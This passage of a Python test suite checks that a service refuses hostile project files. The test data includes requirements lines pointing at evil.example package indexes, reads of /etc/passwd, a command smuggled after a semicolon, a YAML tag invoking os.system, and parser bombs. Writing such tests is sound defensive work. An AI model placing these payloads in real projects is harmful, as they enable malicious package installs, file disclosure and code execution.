        "disk": st.integers(0, 2),
        "after": st.binary(max_size=5),
    },
)


@given(pieces=st.lists(PIECES, min_size=1, max_size=4), end=ENDS)
@example(pieces=[Piece(name=b"a", content=b"1"), Piece(name=b"b", content=b"2")], end={})
@settings_of_hypothesis(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_whatever_is_made_up_is_refused_or_lands_in_its_folder(pieces: list[Piece], end: dict[str, object]) -> None:
    content = crooked(*pieces, **end)
    try:
        source = check(content)
    except SourceRejected:
        return
    sources.store(ContentFile(content), source.sha256)
    folder = sources.materialise(source.sha256)
    assert files_in(folder) >= GOOD.keys()
    assert not [path for path in folder.parent.iterdir() if path.name.startswith(".")]


# What a project says about itself, read after its archive was taken


TOO_MANY_ITEMS = "openapi: 3.1.0\nx-list: [" + "1," * 200_000 + "]\n"
REQUIREMENTS: dict[str, tuple[dict[str, str], str]] = {
    "index": ({"requirements.txt": "--index-url https://evil.example/simple\nnumpy"}, "the operator decides"),
    "second index": ({"requirements.txt": "--extra-index-url=https://evil.example/simple"}, "the operator decides"),
    "trusted host": ({"requirements.txt": "--trusted-host evil.example"}, "the operator decides"),
    "editable": ({"requirements.txt": "-e ."}, "runs build code"),
    "file": ({"requirements.txt": "x @ file:///etc/passwd"}, "is a local path"),
    "file of another folder": ({"requirements.txt": "-r ../../../etc/passwd"}, "lies outside the project"),
    "repository": ({"requirements.txt": "git+https://user:secret@evil.example/x.git"}, "is a repository"),
    "address": ({"requirements.txt": "x @ https://evil.example/x.whl"}, "is an address"),
    "address by a variable": ({"requirements.txt": "x @ ${HOME}/x.whl"}, ""),
    "option of uv": ({"requirements.txt": "--config-settings=x"}, "not allowed"),
    "option of the shell": ({"requirements.txt": "numpy; echo evil"}, "is no requirement"),
    "plain option": ({"requirements.txt": "--help"}, "not allowed"),
    "address in a file": ({"requirements.txt": "-r a.txt", "a.txt": "-r https://evil.example"}, "is an address"),
    "long line": ({"requirements.txt": "a" * 1_200_000}, "1,048,576 bytes"),
    "many lines": ({"requirements.txt": "# x\n" * 300_000}, "1,048,576 bytes"),
    "brackets": ({"requirements.txt": "a[" + "b," * 50_000 + "]"}, ""),
    "parentheses": ({"requirements.txt": f"a; {'(' * 3_000}python_version>'3'{')' * 3_000}"}, "is no requirement"),
    "aliases": ({"environment.yml": "a: &a [x]\nb: &b [*a, *a]\nc: [*b, *b]"}, "aliases"),
    "spaces": ({"requirements.txt": "numpy" + " " * 900_000 + "x"}, "is no requirement"),
    "lists in the wrong place": ({"pyproject.toml": '[project]\ndynamic = 5\ndependencies = 7'}, "no"),
    "long range of versions": ({"pyproject.toml": f'[project]\nrequires-python = ">={"9" * 90_000}"'}, ""),
    "tag that makes objects": ({"environment.yml": "!!python/object/apply:os.system ['true']"}, "not valid YAML"),
    "lists in lists": ({"environment.yml": "[" * 20_000}, "environment.yml"),
    "tables in tables": ({"pyproject.toml": "x = " + "[" * 20_000}, "pyproject.toml"),
    "dots in a key": ({"pyproject.toml": ".".join(["a"] * 20_000) + " = 1"}, ""),
    "address in pyproject.toml": (
        {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["x @ file:///etc/passwd"]'},
        "is a local path",
    ),
    "number of 1 MB": ({"pyproject.toml": "x = " + "1" * 900_000}, ""),
}  # fmt: skip


@pytest.mark.parametrize("what", REQUIREMENTS)
def test_hostile_requirements_are_refused_in_words(what: str) -> None:
    files, says = REQUIREMENTS[what]
    good = {name: text for name, text in GOOD.items() if name != "requirements.txt"}
    with bounded():
        folder = unpacked(zip_of(good | files, method=zipfile.ZIP_STORED))
        with pytest.raises(UserError) as refused:
            requirements.read(folder, python="3.11.2")
    message = str(refused.value)
    assert says in message
    assert "secret" not in message
    assert len(message) < 2_000


DESCRIPTIONS: dict[str, tuple[str, str]] = {
    "file of ours": ("openapi: 3.1.0\ninfo: {$ref: 'file:///etc/passwd'}\npaths: {}", "it is not fetched"),
    "address": ("openapi: 3.1.0\ninfo: {title: x, version: '1'}\npaths: {/: {$ref: 'http://10.0.0.1/'}}", "outside"),
    "tag that makes objects": ("openapi: !!python/object/apply:os.system ['true']", "the tag"),
    "aliases": ("a: &a [x]\nb: &b [*a, *a]\nc: [*b, *b]", "repeats another part"),
    "lists in lists": ("openapi: " + "[" * 5_000, "nested deeper"),
    "objects in objects": ('{"a":' * 5_000, ""),
    "many values": (TOO_MANY_ITEMS, "has more than 100,000 values"),
    "number of 10,000 digits": ("openapi: " + "1" * 10_000, "too many digits"),
    "two documents": ("openapi: 3.1.0\n---\nopenapi: 3.0.3", "a second document"),
    "key twice": ('{"openapi": "3.1.0", "openapi": "3.0.0"}', "is there twice"),
    "half a character": ('{"openapi": "3.1.0", "info": "\\ud800"}', "half a character"),
    "too long": ("openapi: 3.1.0\n# " + "x" * 2_000_000, "it is larger than"),
    "no text": ("\x00\x01", ""),
}  # fmt: skip


@pytest.mark.parametrize("what", DESCRIPTIONS)
def test_hostile_descriptions_are_refused_in_words(what: str) -> None:
    text, says = DESCRIPTIONS[what]
    with bounded(), pytest.raises(ContractRejected) as refused:
        contracts.parse(text, name="openapi.yaml")
    message = "\n".join(refused.value.messages)
    assert message.startswith("openapi.yaml")
    assert says in message
    assert len(message) < 5_000
